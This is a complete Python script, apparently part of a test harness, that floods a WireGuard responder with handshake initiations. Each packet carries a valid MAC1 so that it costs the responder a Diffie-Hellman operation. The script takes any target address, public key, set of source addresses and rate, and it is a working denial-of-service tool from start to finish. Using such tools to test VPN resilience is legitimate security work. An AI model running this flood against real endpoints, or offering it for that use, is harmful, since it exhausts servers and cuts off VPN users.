#!/usr/bin/env python3
"""Floods a WireGuard responder with handshake initiations that carry a valid MAC1 (issue 13).

Each source address gets its own UDP socket (bound to that address, connected to the responder) and one
precomputed 148-byte initiation: random sender index, ephemeral key, encrypted static and timestamp. MAC1 covers
only the message body and the responder's public key, so per message only the sender index changes and MAC1 is
recomputed (keyed BLAKE2s-128, hashlib). Each message passes the responder's MAC1 check and, unless it defends
itself, costs it a Diffie-Hellman (ephemeral x its static key) before the encrypted static fails to open. MAC2 is
left zero, as an attacker that does not read cookie replies sends it.

Prints one line "flooding SOURCES" when the first round has gone out (what callers wait for), and at the end
"sent N in S s: R/s". Stops by itself after --seconds. Python's standard library only.
"""

import argparse
import base64
import hashlib
import os
import socket
import sys
import time


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="ADDRESS:PORT of the responder (IPv4)")
    parser.add_argument("--public-key", required=True, help="the responder's public key, base64 as wg prints it")
    parser.add_argument("--sources", required=True, help="comma-separated source addresses (each already on a local interface)")
    parser.add_argument("--rate", type=int, default=80000, help="initiations per second, all sources together (default 80000)")
    parser.add_argument("--seconds", type=float, default=20, help="how long to flood (default 20)")
    args = parser.parse_args()

    host, _, port = args.target.rpartition(":")
    public_key = base64.b64decode(args.public_key)
    if len(public_key) != 32:
        sys.exit("handshake-flood: a public key is 32 bytes")
    sources = [s for s in args.sources.split(",") if s]
    if not sources or args.rate < 1 or args.seconds <= 0:
        sys.exit("handshake-flood: need sources, a positive rate and a positive duration")

    # MAC1 key = HASH("mac1----" || responder's static public key).
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    sockets, messages = [], []
    for source in sources:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        s.bind((source, 0))
        s.connect((host, int(port)))
        s.setblocking(False)
        sockets.append(s)
        # type 1, three reserved zero bytes, then sender index, ephemeral, static, timestamp, mac1, mac2 (zero).
        message = bytearray(148)
        message[0] = 1
        message[4:116] = os.urandom(112)
        messages.append(message)

    pairs = list(zip(sockets, messages))
    blake2s = hashlib.blake2s
    sent = dropped = 0
    counter = int.from_bytes(os.urandom(4), "little")
    start = time.monotonic()
    end = start + args.seconds
    announced = False
    now = start
    while now < end:
        for s, message in pairs:
            counter = (counter + 1) & 0xFFFFFFFF
            message[4:8] = counter.to_bytes(4, "little")
            message[116:132] = blake2s(message[:116], key=mac1_key, digest_size=16).digest()
            try:
                s.send(message)
                sent += 1
            except (BlockingIOError, OSError):
                dropped += 1
        if not announced:
            print(f"flooding {len(sources)}", flush=True)
            announced = True
        now = time.monotonic()
        # Pace to the asked rate: sleep when ahead of it.
        ahead = (sent + dropped) / args.rate - (now - start)
        if ahead > 0.001:
            time.sleep(ahead)
            now = time.monotonic()
    elapsed = time.monotonic() - start
    print(f"sent {sent} in {elapsed:.1f} s: {sent / elapsed:.0f}/s ({dropped} refused by the local stack)", flush=True)


if __name__ == "__main__":
    main()
